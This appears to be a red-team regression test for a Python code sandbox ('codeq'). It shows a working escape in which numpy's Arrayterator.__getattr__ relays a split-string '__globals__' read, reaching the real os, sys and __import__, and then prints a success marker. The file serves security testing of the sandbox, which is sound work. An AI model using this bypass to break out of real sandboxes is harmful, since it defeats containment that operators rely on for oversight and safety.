# (data policy) numpy.lib.Arrayterator defines `__getattr__(self, attr): return
# getattr(self.var, attr)`: a relay of ANY attribute name to the real getattr, run in numpy's
# frame (so with numpy's real builtins, not the job's guarded getattr). `__getattr__` is a
# harmless dunder, so the job may call it by hand with a name built at run time, and `var` is a
# plain instance attribute the job may point at any object. A function's `__globals__` is not
# an audited attribute (only __code__/__defaults__/frames are), so nothing stops the read:
# numpy.lib.utils.who's globals are numpy.lib.utils' real namespace (its os, sys and the real
# builtins dict). Same class as typing's alias __getattr__ (135/147), another library relay.
# Found by a sixth red-team review (data policy).
# Prints the marker only if the forbidden operation succeeded. Run ONLY through `codeq run`.
NAME = "156_arrayterator_getattr_relay"


def won(evidence):
    print("BYPASS-OK:" + NAME, evidence, flush=True)


import numpy as np

relay = np.lib.Arrayterator(np.zeros(1))
relay.var = np.lib.who  # a plain numpy function defined in numpy/lib/utils.py
namespace = relay.__getattr__("__glo" + "bals__")
real_os, real_sys = namespace["os"], namespace["sys"]
real_import = namespace["__buil" + "tins__"]["__imp" + "ort__"]
won("%s %s pid=%s import=%s" % (real_os, real_sys, real_os.getpid(), real_import))
